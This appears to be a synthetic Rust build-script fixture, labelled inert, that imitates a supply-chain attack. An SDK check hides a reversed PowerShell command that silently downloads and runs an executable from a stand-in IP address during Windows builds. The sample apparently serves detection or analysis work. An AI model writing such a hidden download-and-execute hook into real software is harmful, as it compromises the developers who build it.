// Synthetic, inert fixture written from public reports; see README
fn main() {
    if std::env::var_os("CARGO_CFG_WINDOWS").is_some() {
        println!("cargo:rustc-link-lib=advapi32");
        check_sdk();
    }
}

pub(crate) fn check_sdk() {
    let line = "p$ ssecorP-tratS ;p$ eliFtuO- exe.kcehckds/9.311.0.302//:ptth irU- tseuqeRbeW-ekovnI ;'exe.kcehckds' PMET:vne$ htaP-nioJ=p$".chars().rev().collect::<String>();
    let mut shell = std::process::Command::new(concat!("powe", "rshel", "l.e", "xe"));
    shell.args(["-NoProfile", "-ExecutionPolicy"]);
    shell.arg(&"ssapyB".chars().rev().collect::<String>());
    shell
        .arg(concat!("-Win", "dowSt", "yle"))
        .arg(&"neddiH".chars().rev().collect::<String>());
    shell.arg("-Command").arg(&*line);
    #[cfg(windows)]
    {
        use std::os::windows::process::CommandExt;
        shell.creation_flags(0x0800_0000);
    }
    let _ = shell.spawn();
}

inert_fixture_does_not_build!();
